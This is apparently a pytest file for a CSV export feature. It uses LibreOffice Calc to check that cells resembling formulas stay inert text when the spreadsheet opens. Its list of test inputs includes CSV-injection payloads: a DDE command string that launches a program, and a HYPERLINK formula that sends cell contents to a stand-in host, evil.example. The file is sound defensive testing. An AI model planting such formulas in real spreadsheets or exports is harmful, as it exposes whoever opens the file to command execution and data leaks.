"""A real spreadsheet (LibreOffice Calc) opens the tables as written, and runs no cell."""

from __future__ import annotations

import csv
import shutil
import subprocess
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest

from earwitness.exports.formats import About, render
from earwitness.exports.formats.csv_tables import cell
from earwitness.model import Case

pytestmark = pytest.mark.skipif(
    not shutil.which("soffice"), reason="apt-get install libreoffice-calc-nogui"
)

# Were they not guarded: a sum, a program, an address that is asked; and hard words.
HARD = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '@HYPERLINK("https://evil.example/?"&A1)',
    "+SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    '“=1+1”, said Олена Кравченко, 王芳 and نور 🙂, “and\nnothing; else, "ever"”',
)
# Commas, quotation marks, UTF-8, from the first row; what looks like a formula is one.
OPENING = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
SAVING = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"


def _shown(files: dict[str, bytes], folder: Path) -> dict[str, list[list[str]]]:
    """The rows of each table as the spreadsheet shows them: of a formula, what it comes to."""
    for name, data in files.items():
        (folder / name).write_bytes(data)
    home = f"-env:UserInstallation={(folder / 'home').as_uri()}"
    command = ["soffice", home, "--headless", f"--infilter={OPENING}", "--convert-to", SAVING]
    done = subprocess.run(
        [*command, "--outdir", "shown", *files],
        cwd=folder, capture_output=True, text=True, check=True, timeout=300,
    )  # fmt: skip
    assert (folder / "shown").is_dir(), done.stderr
    return {name: _rows((folder / "shown" / name).read_bytes()) for name in files}


def _rows(data: bytes) -> list[list[str]]:
    """Truth is written otherwise by each."""
    told = {"TRUE": "true", "FALSE": "false"}
    rows = csv.reader(data.decode().splitlines(keepends=True))
    return [[told.get(words, words) for words in row] for row in rows]


def test_it_shows_every_table_as_it_was_written(case: Case, tmp_path: Path) -> None:
    hard = tuple(replace(case.actors[0], id=f"a_{n}", name=said) for n, said in enumerate(HARD))
    # The case built by hand has digests of noughts alone, which are a number to a spreadsheet.
    pages = tuple(replace(d, sha256=sha256(d.text.encode()).hexdigest()) for d in case.documents)
    made = replace(case, actors=(*case.actors, *hard), documents=pages)
    files = render("csv", made, About())
    tables = {name: data for name, data in files.items() if name.endswith(".csv")}
    shown = _shown(tables, tmp_path)
    for name, data in tables.items():
        assert shown[name] == _rows(data), name
    names = {row[0]: row[1] for row in shown["actors.csv"]}
    assert [names[actor.id] for actor in hard] == [cell(words) for words in HARD]


def test_it_would_run_what_is_not_guarded(tmp_path: Path) -> None:
    """So that the test above can fail."""
    shown = _shown({"a.csv": b"words\r\n=1+1\r\n'=1+1\r\n"}, tmp_path)
    assert shown == {"a.csv": [["words"], ["2"], ["'=1+1"]]}
